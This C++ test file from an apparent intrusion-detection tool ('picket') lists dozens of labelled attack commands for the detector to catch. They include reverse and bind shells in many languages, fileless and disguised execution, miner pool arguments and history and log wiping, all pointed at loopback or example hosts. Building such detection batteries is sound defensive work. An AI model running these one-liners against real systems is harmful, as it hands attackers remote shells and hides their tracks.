#include "tests/acceptance/battery.h"

namespace picket::test {

const std::vector<Form>& shell_forms() {
  static const std::vector<Form> all = {
      {"bash, a loop over what cat reads", "reverse_shell relayed_shell",
       "bash -c 'exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5 | while read l; do eval \"$l\" 2>&5 >&5; "
       "/usr/bin/id >&5; break; done'"},
      {"bash, a loop of its own", "reverse_shell relayed_shell",
       "bash -c 'exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do o=$(/usr/bin/env bash -c "
       "\"$l\"); echo \"$o\" >&5; case $o in picket*) break;; esac; done'"},
      {"sh on a descriptor of its own", "reverse_shell",
       "bash -c 'exec 9<>/dev/tcp/127.0.0.1/PORT; exec sh 0<&9 1>&9 2>&9'"},
      {"bash over UDP", "reverse_shell",
       "bash -c 'exec sh -c : <>/dev/udp/127.0.0.1/PORT >&0 2>&0'"},
      {"commands only", "reverse_shell", "bash -c 'exec sh </dev/tcp/127.0.0.1/PORT >/dev/null'"},
      {"a file by redirection", "reverse_shell",
       "bash -c 'cat </etc/hostname >/dev/tcp/127.0.0.1/PORT'"},
      {"python, popen in a loop", "relayed_shell",
       "python3 -c \"import socket,os\ns=socket.create_connection(('127.0.0.1',PORT))\n"
       "s.sendall(os.popen(s.recv(999).decode()).read().encode())\n\""},
      {"python, a prompt and subprocess", "relayed_shell",
       "python3 -c \"import socket,subprocess\ns=socket.create_connection(('127.0.0.1',PORT))\n"
       "s.sendall(b'shell> ')\ns.sendall(subprocess.check_output(s.recv(999).decode(),"
       "shell=True))\n\""},
      {"perl, backticks", "relayed_shell",
       "perl -MIO::Socket -e '$s=IO::Socket::INET->new(q(127.0.0.1:PORT));$l=<$s>;$o=`$l`;print $s "
       "$o'"},
      {"perl, a shell on the connection", "reverse_shell",
       "perl -MIO::Socket -e '$s=IO::Socket::INET->new(q(127.0.0.1:PORT));STDIN->fdopen($s,q(r));"
       "$~->fdopen($s,q(w));system$_ while<>;' "},
      {"ruby, popen in a loop", "relayed_shell",
       "ruby -rsocket -e "
       "'s=TCPSocket.new(\"127.0.0.1\",PORT);l=s.gets;IO.popen(l,\"r\"){|i|s.print "
       "i.read}'"},
      {"php, shell_exec", "relayed_shell",
       "php -r '$s=fsockopen(\"127.0.0.1\",PORT);$l=fgets($s);fwrite($s,shell_exec($l));'"},
      {"php, exec with a descriptor", "reverse_shell",
       "php -r '$s=fsockopen(\"127.0.0.1\",PORT);exec(\"sh <&3 >&3 2>&3\");'"},
      {"lua, popen", "relayed_shell",
       "lua5.4 -e 's=require(\"socket\").tcp();s:connect(\"127.0.0.1\",PORT);l=s:receive();"
       "f=io.popen(l);s:send(f:read(\"a\"))'"},
      {"gawk, its own connection", "relayed_shell",
       "gawk 'BEGIN{s=\"/inet/tcp/0/127.0.0.1/PORT\";printf \"shell> \" |& s;s |& getline "
       "c;while((c "
       "|& getline l)>0)print l |& s;close(c)}'"},
      {"tcl, exec", "relayed_shell",
       "echo 'set s [socket 127.0.0.1 PORT];puts -nonewline $s {% };flush $s;gets $s c;puts $s "
       "[exec "
       "sh -c $c];flush $s' | tclsh"},
      {"renamed netcat", "reverse_shell relayed_shell",
       "cp /bin/nc.traditional /tmp/kworker; /tmp/kworker 127.0.0.1 PORT -e /bin/sh"},
      {"renamed static shell", "reverse_shell",
       "cp /usr/local/bin/busybox /tmp/sshd; bash -c 'exec 4<>/dev/tcp/127.0.0.1/PORT; exec -a "
       "sshd "
       "/tmp/sshd sh <&4 >&4 2>&4'"},
      {"ncat with a program", "reverse_shell relayed_shell", "ncat 127.0.0.1 PORT -e /bin/sh"},
      {"ncat with a command", "reverse_shell relayed_shell", "ncat 127.0.0.1 PORT -c sh"},
      {"socat, a terminal and a session", "reverse_shell relayed_shell",
       "socat EXEC:sh,pty,stderr,setsid,sane TCP:127.0.0.1:PORT"},
      {"script and a FIFO", "relayed_shell",
       "rm -f /tmp/q4;mkfifo /tmp/q4;nc.traditional 127.0.0.1 PORT </tmp/q4 | script -qc sh "
       "/dev/null "
       ">/tmp/q4"},
      {"busybox's netcat and a FIFO", "reverse_shell relayed_shell",
       "mkfifo /tmp/q5; sh </tmp/q5 | busybox nc 127.0.0.1 PORT >/tmp/q5"},
      {"busybox alone, behind cat", "reverse_shell relayed_shell",
       "mkfifo /tmp/q6; busybox sh -c 'cat /tmp/q6 | busybox sh -i 2>&1 | busybox nc 127.0.0.1 "
       "PORT "
       ">/tmp/q6'"},
      {"netcat between two FIFOs", "reverse_shell relayed_shell",
       "mkfifo /tmp/q7 /tmp/q8; sh </tmp/q7 >/tmp/q8 2>&1 & nc.traditional 127.0.0.1 PORT >/tmp/q7 "
       "</tmp/q8"},
      {"netcat hands out a shell", "bind_shell",
       "nc.traditional -l -p 4951 -e /bin/sh & echo exit | socat - "
       "TCP:127.0.0.1:4951,retry=99,interval=0.05"},
      {"socat hands out a shell", "bind_shell",
       "socat TCP-LISTEN:4952,bind=127.0.0.1 EXEC:sh,nofork & echo exit | socat - "
       "TCP:127.0.0.1:4952,retry=99,interval=0.05"},
      {"busybox hands out a shell", "bind_shell",
       "busybox nc -l -p 4953 -e /bin/sh & echo exit | socat - "
       "TCP:127.0.0.1:4953,retry=99,interval=0.05"},
      {"python hands out a renamed shell", "bind_shell",
       "cp /bin/sh /tmp/kdevd; python3 -c \"import socket,subprocess\n"
       "l=socket.create_server(('127.0.0.1',4954))\n"
       "c=socket.create_connection(('127.0.0.1',4954))\ns=l.accept()[0]\nc.sendall(b'exit\\n')\n"
       "subprocess.call(['/tmp/kdevd'],stdin=s,stdout=s,stderr=s)\""},
      {"netcat and a FIFO that wait for somebody", "bind_shell",
       "mkfifo /tmp/q9; sh </tmp/q9 2>&1 | nc.traditional -l -p 4955 >/tmp/q9 & echo exit | socat "
       "- "
       "TCP:127.0.0.1:4955,retry=99,interval=0.05"},
      {"pings that carry", "raw_socket",
       "python3 -c \"import socket;socket.socket(socket.AF_INET,socket.SOCK_RAW,1)\""},
      {"a port handed out", "reverse_tunnel",
       "cp /bin/true /tmp/sshx; /tmp/sshx -fN -R 2222:localhost:22 a@203.0.113.9"},
  };
  return all;
}

const std::vector<Form>& script_forms() {
  static const std::vector<Form> all = {
      {"base64 into a shell", "piped_script", "echo aWQ= | base64 -d | sh"},
      {"base64 by busybox into bash", "piped_script", "echo aWQ= | busybox base64 -d | bash -s"},
      {"perl into a shell", "piped_script", "perl -e 'print qq(id\\n)' | sh"},
      {"python that unpacks itself", "piped_script",
       "python3 -c \"import base64;exec(base64.b64decode('cGFzcw=='))\""},
      {"ruby that unpacks itself", "piped_script", "ruby -e 'eval(%w(MQ==)[0].unpack(\"m\")[0])'"},
      {"eval of what is decoded", "piped_script", "bash -c 'eval \"$(echo aWQ= | base64 -d)\"'"},
      {"out of a connection into a shell", "piped_script",
       "busybox nc 127.0.0.1 PORT </dev/null | sh"},
      {"a script behind a descriptor", "piped_script", "bash -c 'bash <(echo id)'"},
      {"a script in memory", "piped_script",
       "perl -e '$f=syscall(319,$n=q(x),0);open($h,q(>&=),$f);$h->autoflush(1);print $h "
       "qq(id\\n);exec(q(bash),qq(/proc/self/fd/$f))' "},
      {"a program in memory, by perl", "memfd_exec",
       "perl -e '$f=syscall(319,$n=q(x),0);open($o,q(<),q(/bin/true));undef $/;$b=<$o>;"
       "open($h,q(>&=),$f);syswrite($h,$b);exec {qq(/proc/$$/fd/$f)} q(x)'"},
      {"a program in memory, by python", "memfd_exec",
       "python3 -c \"import os;f=os.memfd_create('x');os.write(f,open('/bin/true','rb').read());"
       "os.execve(f,['x'],os.environ)\""},
      {"a script in shared memory", "shared_memory_exec",
       "echo id >/dev/shm/.y && bash /dev/shm/.y"},
      {"deleted before it runs", "deleted_exec",
       "cp /bin/true /tmp/d1; exec 8</tmp/d1; rm /tmp/d1; /proc/self/fd/8"},
      {"written by a script", "foreign_program",
       "python3 -c \"open('/tmp/w1','wb').write(open('/bin/true','rb').read())\"; chmod +x "
       "/tmp/w1; "
       "/tmp/w1"},
      {"decoded to a file", "foreign_program",
       "base64 /bin/true >/tmp/w2.b64; base64 -d /tmp/w2.b64 >/tmp/w2; chmod +x /tmp/w2; /tmp/w2"},
      {"handed to the loader", "loader_exec", "/lib64/ld-linux-x86-64.so.2 /bin/true"},
      {"a copy of the loader", "loader_exec",
       "cp /lib64/ld-linux-x86-64.so.2 /tmp/notes; /tmp/notes /bin/true"},
      {"a second name of the loader", "loader_exec",
       "ln $(readlink -f /lib64/ld-linux-x86-64.so.2) /tmp/l1; /tmp/l1 --argv0 git /bin/true"},
      {"a pool's address", "miner_arguments",
       "cp /bin/true /tmp/updater; /tmp/updater -o stratum+tcp://pool.example.org:3333 -u x"},
      {"huge pages", "miner_preparation",
       ": >>/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages"},
      {"login at a pool", "miner_handshake",
       "printf '{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4A\",\"agent\":\"x\"}}\\n' "
       "| "
       "busybox nc 127.0.0.1 PORT"},
      {"a history emptied by a script", "evasion",
       "touch /root/.bash_history; bash -c ': >/root/.bash_history'"},
      {"a history that leads nowhere", "evasion",
       "touch /root/.bash_history; ln -sf /dev/null /root/.bash_history"},
      {"a line less in a history", "evasion",
       "echo curl >/root/.zsh_history; sed -i /curl/d /root/.zsh_history"},
      {"a log is taken away", "evasion", "touch /var/log/wtmp; rm /var/log/wtmp"},
  };
  return all;
}

}  // namespace picket::test
